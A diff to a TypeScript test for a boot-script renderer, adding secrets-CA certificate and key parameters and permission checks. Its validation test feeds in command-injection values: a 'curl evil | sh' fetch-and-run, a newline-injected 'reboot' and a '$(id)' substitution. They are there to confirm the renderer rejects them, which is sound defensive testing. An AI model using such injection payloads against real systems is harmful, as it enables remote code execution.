@@ -5,6 +5,7 @@ import { join } from "node:path";
 import { describe, expect, test } from "vitest";
 import {
   EFS_MOUNT_OPTIONS,
+  NODE_SECRETS_CA_KEY,
   type NodeUserDataInput,
   renderNodeUserData,
 } from "../../../../infra/sst/node-user-data.ts";
@@ -19,6 +20,8 @@ const input: NodeUserDataInput = {
   releaseSha256: "a".repeat(64),
   fileSystemId: "fs-0123abcd",
   envParameterName: "/workcell/prod/agent-host.env",
+  secretsCaCertParameterName: "/workcell/prod/secrets-ca-cert.pem",
+  secretsCaKeyParameterName: "/workcell/prod/secrets-ca-key.pem",
 };
 
 describe("node user data", () => {
@@ -38,6 +41,9 @@ describe("node user data", () => {
       "--with-decryption",
       'echo "NODE_ID=$instance_id"',
       "chmod 0600 /etc/workcell/agent-host.env.new",
+      `install -d -m 0700 "$(dirname '${NODE_SECRETS_CA_KEY}')"`,
+      `chmod 0600 '${NODE_SECRETS_CA_KEY}.new'`,
+      "/opt/workcell/infra/ops/main.ts doctor",
       "systemctl enable --now workcell-agent-host",
     ].map((needle) => script.indexOf(needle));
     expect(order.every((at) => at > 0)).toBe(true);
@@ -54,6 +60,7 @@ describe("node user data", () => {
       ["envParameterName", "/workcell/x'; curl evil | sh; '"],
       ["releaseBucket", "bucket name"],
       ["region", "eu-west-1\nreboot"],
+      ["secretsCaKeyParameterName", "/workcell/x$(id)"],
     ] as const) {
       expect(() => renderNodeUserData({ ...input, [name]: value })).toThrow(
         `node user data: ${name} has unexpected characters`,
